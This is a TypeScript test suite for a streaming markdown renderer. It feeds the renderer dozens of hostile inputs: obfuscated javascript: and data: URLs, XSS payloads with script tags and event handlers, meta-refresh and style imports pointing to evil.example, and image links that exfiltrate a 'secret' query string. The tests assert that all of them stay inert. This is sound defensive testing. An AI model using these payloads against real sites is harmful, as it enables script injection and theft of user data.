import assert from 'node:assert/strict';
import { test } from 'node:test';
import { build } from 'esbuild';
import type { Markdown as MarkdownType } from './markdown.tsx';

// Node does not read .tsx, so the renderer is built as the widget is, Preact left where it is installed.
const built = await build({
  entryPoints: [new URL('./markdown.tsx', import.meta.url).pathname],
  bundle: true,
  write: false,
  format: 'esm',
  plugins: [{ name: 'preact', setup: (b) => b.onResolve({ filter: /^preact/ }, ({ path }) => ({ path: import.meta.resolve(path), external: true })) }],
});
const { Markdown } = (await import(`data:text/javascript,${encodeURIComponent(built.outputFiles[0]!.text)}`)) as {
  Markdown: typeof MarkdownType;
};

type Node = { type: unknown; props: Record<string, unknown> };
type Tree = Node | string | number | boolean | null | undefined | Tree[];

const render = (text: string, streaming = false): Node => {
  const props = { text, streaming };
  return new Markdown(props).render(props) as unknown as Node;
};

/** Every element of a tree, and its text. */
function walk(tree: Tree, element: (node: Node) => void): string {
  if (Array.isArray(tree)) return tree.map((child) => walk(child, element)).join('');
  if (tree === null || tree === undefined || typeof tree === 'boolean') return '';
  if (typeof tree !== 'object') return String(tree);
  element(tree);
  return walk(tree.props['children'] as Tree, element);
}

const ELEMENTS = new Set(
  'div p ul ol li blockquote hr pre code table thead tbody tr th td a strong em del br sup'.split(' '),
);
const PROPS = new Set('children class dir role aria-level tabIndex start href title rel target'.split(' '));
const ADDRESS = /^(?:https?:\/\/[^/\\?#\s\0-\x20]+|mailto:[^@\s]+@)/;

/** Fails unless `tree` has nothing but what the renderer may draw; gives its links. */
function audit(tree: Node, source: string): string[] {
  const links: string[] = [];
  const text = walk(tree, ({ type, props }) => {
    assert.ok(typeof type === 'string' && ELEMENTS.has(type), `<${String(type)}> from ${JSON.stringify(source)}`);
    for (const [name, value] of Object.entries(props)) {
      assert.ok(PROPS.has(name), `${name} on <${type}> from ${JSON.stringify(source)}`);
      if (name !== 'children') assert.notEqual(typeof value, 'object', `${name} is an object`);
    }
    if (type === 'a') {
      const href = String(props['href']);
      assert.match(href, ADDRESS, source);
      const url = new URL(href);
      assert.ok(['http:', 'https:', 'mailto:'].includes(url.protocol), source);
      assert.equal(url.username + url.password, '', source);
      assert.equal(props['rel'], 'noopener noreferrer nofollow ugc');
      assert.equal(props['target'], '_blank');
      links.push(href);
    } else assert.equal(props['href'], undefined);
  });
  assert.equal(typeof text, 'string');
  return links;
}

// Addresses that must never become one. Each is tried in every place that takes an address.
const ADDRESSES = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', '\tjavascript:alert(1)', '\x01javascript:alert(1)', '\x00javascript:alert(1)', 'java\x00script:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)', 'java\rscript:alert(1)', '\u200bjavascript:alert(1)', '\u00a0javascript:alert(1)', '\ufeffjavascript:alert(1)', '\u2028javascript:alert(1)', 'javascript&colon;alert(1)', 'javascript&#58;alert(1)', 'javascript&#x3a;alert(1)', '&#106;avascript:alert(1)', '&#x6A&#x61&#x76&#x61script:alert(1)', 'java&Tab;script:alert(1)', 'java&NewLine;script:alert(1)', 'javascript%3Aalert(1)', 'javascript\\:alert(1)', '\\javascript:alert(1)', 'javascript://%0aalert(1)', 'javascript://https://a.example/%0aalert(1)', 'javascript:/*https://a.example*/alert(1)', 'vbscript:msgbox(1)', 'VBScript:msgbox(1)', 'livescript:x', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD4=', 'DATA:image/svg+xml,<svg/onload=alert(1)>', 'blob:https://a.example/1', 'filesystem:https://a.example/x', 'file:///etc/passwd', 'ftp://a.example', 'ws://a.example', 'about:blank', 'chrome://settings', 'view-source:https://a.example', 'intent://a#Intent;end', 'tel:+15555', 'sms:+15555', 'ms-msdt:/id', 'feed:javascript:alert(1)', 'jar:https://a.example!/x', '//evil.example', '\\\\evil.example', '/\\evil.example', '/\t/evil.example', '///evil.example', 'https:evil.example', 'https:/evil.example', 'https:\\\\evil.example', 'https:///evil.example', 'http:/\\evil.example', 'https://', 'https://?', 'https://user:pass@evil.example', 'https://bank.example@evil.example', 'https://%', 'https://a.example b', 'https://[::1', 'mailto:', 'mailto:nobody', 'mailto:?to=x@a.example', 'menu.html', './x', '../x', '?q', '#top', '', ' ', 'ｊavascript:alert(1)', 'javascript：alert(1)',
];
const PLACES: ((address: string) => string)[] = [
  (a) => `[x](${a})`, (a) => `[x](<${a}>)`, (a) => `[x]( ${a} )`, (a) => `[x](${a} "t")`, (a) => `![x](${a})`, (a) => `[![x](${a})](${a})`, (a) => `<${a}>`, (a) => `[**x**](${a})`, (a) => `| [x](${a}) |\n|---|\n| ![x](${a}) |`, (a) => `> - [x](${a})`, (a) => `[x]: ${a}\n\n[x][x] [x]`, (a) => `[x](${a}`, (a) => `# [x](${a})`,
];

test('no address outside http, https and mailto becomes a link, wherever it stands', () => {
  assert.ok(ADDRESSES.length >= 60);
  for (const address of ADDRESSES) {
    for (const place of PLACES) {
      for (const streaming of [false, true]) {
        const source = place(address);
        for (const link of audit(render(source, streaming), source)) {
          // What is left may only be an address that stands in the text as one: "https://a.example" within a trick.
          assert.match(address, /a\.example/, `${link} from ${JSON.stringify(source)}`);
          assert.match(link, /^(?:https:\/\/|mailto:x@)a\.example/);
        }
      }
    }
  }
});

const HTML = [
  '<script>alert(1)</script>', '<ScRiPt src=//evil.example></sCrIpT>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<iframe srcdoc="<script>alert(1)</script>">', '<a href="javascript:alert(1)">x</a>', '<b onmouseover=alert(1)>x</b>', '<style>@import "//evil.example"</style>', '<link rel=stylesheet href=//evil.example>', '<meta http-equiv=refresh content="0;url=//evil.example">', '<base href=//evil.example>', '<form action=//evil.example><button>x</button></form>', '<object data=x>', '<embed src=x>', '<math><mi xlink:href="data:x">', '<details open ontoggle=alert(1)>', '<video><source onerror=alert(1)>', '<input autofocus onfocus=alert(1)>', '<template><img src=x></template>', '<!--><img src=x onerror=alert(1)>-->', '<![CDATA[<img src=x>]]>', '<?xml version="1.0"?>', '"><img src=x onerror=alert(1)>', "'><script>alert(1)</script>", '</div></p><script>alert(1)</script>', '`<img src=x>`', '```html"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```', '```" onmouseover="alert(1)\nx\n```', '[<img src=x onerror=alert(1)>](https://a.example)', '[x](https://a.example "onclick=alert(1)")', '[x](https://a.example" onclick="alert(1))', "[x](https://a.example' onclick='alert(1))", '![x" onerror="alert(1)](https://a.example/x.png)', '![x](https://evil.example/?q=secret)', '![x][1]\n\n[1]: https://evil.example/?q=secret', '<https://a.example/"onclick=alert(1)>', 'https://a.example/<script>', 'a@b.example<script>', '| <b> |\n|---|\n| <img src=x> |', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;img src=x&#62;', '\\<img src=x>', '**<i>**', '<a href="https://a.example">**x**</a>', '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '__proto__', '[__proto__](https://a.example/__proto__)', '[constructor][constructor]', '```__proto__\nx\n```', '\u202ehttps://a.example/\u202c', '[x](https://a.example/\u202egpj.exe)', '<scr\0ipt>', '<\u0131mg>',
];

test('HTML is text, pictures are never fetched, and nothing draws outside the fixed set', () => {
  for (const source of HTML) {
    for (const streaming of [false, true]) {
      const tree = render(source, streaming);
      audit(tree, source);
      const shown = walk(tree, () => undefined);
      if (!streaming && /^<[a-z]+[ >]/i.test(source) && !source.includes('**')) assert.ok(shown.includes(source.split('\n')[0]!.slice(0, 12)), source);
    }
  }
});

test('every prefix of every hostile text, while it arrives, stays within the fixed set', () => {
  for (const source of [...HTML, ...ADDRESSES.map((a) => `[x](${a}) ![y](${a})`)]) {
    for (let end = 0; end <= source.length; end++) audit(render(source.slice(0, end), true), source);
  }
});

test('an answer drawn as it arrives keeps the nodes of finished blocks', () => {
  const source = 'one **two**\n\n- three\n- four\n\n> five\n\nsix';
  const markdown = new Markdown({ text: '', streaming: true });
  const draw = (end: number, streaming: boolean): Tree[] =>
    (markdown.render({ text: source.slice(0, end), streaming }) as unknown as { props: { children: Tree[] } }).props.children;
  const early = draw(source.indexOf('five'), true);
  const late = draw(source.length, true);
  const done = draw(source.length, false);
  assert.equal(late.length, 4);
  assert.equal(late[0], early[0]);
  assert.equal(late[1], early[1]);
  for (let k = 0; k < 3; k++) assert.equal(done[k], late[k]);
});

test('headings are small, below the page, and still headings', () => {
  const seen: unknown[] = [];
  walk(render('# a\n\n###### b'), ({ props }) => props['role'] === 'heading' && seen.push(props['aria-level']));
  assert.deepEqual(seen, [3, 6]);
});

test('a title tells where a link leads when its text does not', () => {
  const titles: unknown[] = [];
  const source = '[bank.example](https://evil.example) [evil.example/x](https://evil.example/x) https://a.example/b';
  walk(render(source), ({ type, props }) => type === 'a' && titles.push(props['title']));
  assert.deepEqual(titles, ['evil.example', undefined, undefined]);
});
